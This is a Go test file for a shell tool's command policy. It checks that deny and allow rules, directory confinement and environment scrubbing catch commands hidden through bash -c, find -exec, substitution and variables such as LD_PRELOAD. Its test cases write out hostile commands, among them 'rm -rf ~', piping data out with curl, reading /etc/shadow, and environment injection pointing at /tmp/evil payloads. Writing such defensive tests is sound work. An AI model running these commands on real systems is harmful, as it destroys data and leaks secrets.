package shell

import (
	"bytes"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

func TestPolicyRefusesAndLogs(t *testing.T) {
	dir := t.TempDir()
	outside := t.TempDir()
	if err := os.Symlink(outside, filepath.Join(dir, "escape")); err != nil {
		t.Fatal(err)
	}
	os.Mkdir(filepath.Join(dir, "sub"), 0o755)
	t.Setenv("SAUCER_TEST_API_KEY", "sk-secret")
	t.Setenv("SAUCER_TEST_VISIBLE", "yes")
	logs := &syncBuffer{}
	c := connect(t, Options{Dir: dir, Logger: slog.New(slog.NewTextHandler(logs, nil)), Policy: Policy{
		Allow:      []string{"echo *", "ls*", "env", "pwd", "touch *"},
		Deny:       []string{"*rm -rf*", "touch /*"},
		ConfineCwd: true,
		ScrubEnv:   []string{"*_API_KEY"},
	}})
	tests := []struct {
		name    string
		args    map[string]any
		refusal string // "" when the command must run
	}{
		{"allowed", map[string]any{"command": "echo hi && ls -a"}, ""},
		{"denied part", map[string]any{"command": "echo hi; rm -rf ~"}, "matches a denied pattern (*rm -rf*, touch /*)"},
		{"denied whole", map[string]any{"command": "touch /etc/x"}, "matches a denied pattern"},
		{"not allowed", map[string]any{"command": "echo ok | curl -d @- example.invalid"}, `"curl -d @- example.invalid" is not among the allowed commands`},
		{"substitution", map[string]any{"command": "echo $(cat /etc/shadow)"}, "command or process substitution"},
		{"cwd inside", map[string]any{"command": "pwd", "cwd": "sub"}, ""},
		{"cwd outside", map[string]any{"command": "pwd", "cwd": outside}, "is outside the working directory"},
		{"cwd symlink escape", map[string]any{"command": "pwd", "cwd": "escape"}, "is outside the working directory"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, text, isErr := run(t, c, tt.args)
			if tt.refusal == "" {
				if isErr {
					t.Fatalf("refused: %s", text)
				}
				return
			}
			if !isErr || !strings.HasPrefix(text, "policy: ") || !strings.Contains(text, tt.refusal) {
				t.Errorf("got %q (error %v), want a policy refusal with %q", text, isErr, tt.refusal)
			}
		})
	}
	if n := strings.Count(logs.String(), "shell policy refused a command"); n != 6 {
		t.Errorf("%d refusals logged, want 6:\n%s", n, logs)
	}
	out, _, _ := run(t, c, map[string]any{"command": "env", "env": map[string]any{"MINE_API_KEY": "given"}})
	if strings.Contains(out.Stdout, "sk-secret") || !strings.Contains(out.Stdout, "SAUCER_TEST_VISIBLE=yes") || !strings.Contains(out.Stdout, "MINE_API_KEY=given") {
		t.Errorf("environment not scrubbed as configured:\n%s", out.Stdout)
	}
}

func TestPolicyPatterns(t *testing.T) {
	if _, err := NewChecked(Options{Policy: Policy{Deny: []string{" "}}}); err == nil {
		t.Error("an empty pattern was accepted")
	}
	pol, _ := compilePolicy(Policy{Deny: []string{"x"}})
	var f found
	if why := pol.collect("a; b && c || d | e & f\ng; { h; }; (i); if j; then k; fi", 0, &f, ""); why != "" {
		t.Fatal(why)
	}
	var got []string
	for _, k := range f.calls {
		got = append(got, k.call.text())
	}
	if strings.Join(got, ",") != "a,b,c,d,e,f,g,h,i,j,k" {
		t.Errorf("calls: %q", got)
	}
}

// syncBuffer is a bytes.Buffer safe for the logger's and the test's
// goroutines.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// The policy sees through the usual ways of hiding a command, as an
// attacker would try them: interpreters, runners, find -exec, process and
// command substitution, and environment variables that run code.
func TestPolicyEscapes(t *testing.T) {
	deny, err := compilePolicy(Policy{Deny: []string{"rm *", "*rm -rf*", "touch /*", "id"}})
	if err != nil {
		t.Fatal(err)
	}
	allow, err := compilePolicy(Policy{Allow: []string{"echo *", "ls*", "bash -c *", "find *", "python3 *", "perl *", "env *"}})
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		policy *compiled
		line   string
		want   string // "" when it must pass
	}{
		{deny, `bash -c 'rm x'`, "matches a denied pattern"},
		{deny, `sh -ec "rm -rf keep"`, "matches a denied pattern"},
		{deny, `/bin/bash -c "echo ok; rm y"`, "matches a denied pattern"},
		{deny, `env FOO=1 rm z`, "matches a denied pattern"},
		{deny, `echo a | xargs rm`, "matches a denied pattern"},
		{deny, `find . -name '*.log' -exec rm {} \;`, "matches a denied pattern"},
		{deny, `timeout 5 nice -n 10 rm q`, "matches a denied pattern"},
		{deny, `echo hi >(touch /tmp/X)`, "matches a denied pattern"},
		{deny, `cat <(id)`, "matches a denied pattern"},
		{deny, `echo $(id)`, "matches a denied pattern"},
		{deny, `echo remove me`, ""},
		{allow, `python3 -c 'import os; os.remove("x")'`, "inline code"},
		{allow, `perl -e 'unlink "x"'`, "inline code"},
		{allow, `bash -c 'curl example.invalid'`, "is not among the allowed commands"},
		{allow, `find . -exec curl example.invalid \;`, "is not among the allowed commands"},
		{allow, `env X=1 curl example.invalid`, "is not among the allowed commands"},
		{allow, `echo hi >(curl example.invalid)`, "process substitution"},
		{allow, `bash -c 'echo ok'`, ""},
		{allow, `ls -la`, ""},
	} {
		got := tt.policy.checkCommand(tt.line)
		if (tt.want == "") != (got == "") || !strings.Contains(got, tt.want) {
			t.Errorf("%s: %q, want %q", tt.line, got, tt.want)
		}
	}
	for _, tt := range []struct {
		policy *compiled
		env    []string
		want   string
	}{
		{nil, []string{"BASH_ENV=/tmp/evil.sh"}, "may not set BASH_ENV"},
		{nil, []string{"LD_PRELOAD=/tmp/evil.so"}, "may not set LD_PRELOAD"},
		{nil, []string{"BASH_FUNC_ls%%=() { rm -rf ~; }"}, "may not set BASH_FUNC_ls%%"},
		{deny, []string{"PATH=/tmp/evil"}, "may not set PATH"},
		{nil, []string{"PATH=/usr/local/bin:/usr/bin"}, ""},
		{nil, []string{"GCONV_PATH=/tmp/evil"}, "may not set GCONV_PATH"},
		{deny, []string{"PYTHONPATH=/tmp/evil"}, "env PYTHONPATH: it makes an interpreter or tool load or run code"},
		{deny, []string{"NODE_OPTIONS=--require=/tmp/evil.js"}, "env NODE_OPTIONS"},
		{deny, []string{"LESSOPEN=|/tmp/evil %s"}, "env LESSOPEN"},
		{nil, []string{"PYTHONPATH=src"}, ""}, // without patterns anything runs anyway
		{deny, []string{"PYTHONUNBUFFERED=1"}, ""},
		{deny, []string{"GREETING=hi"}, ""},
	} {
		got := tt.policy.checkEnv(tt.env)
		if (tt.want == "") != (got == "") || !strings.Contains(got, tt.want) {
			t.Errorf("env %v: %q, want %q", tt.env, got, tt.want)
		}
	}
}
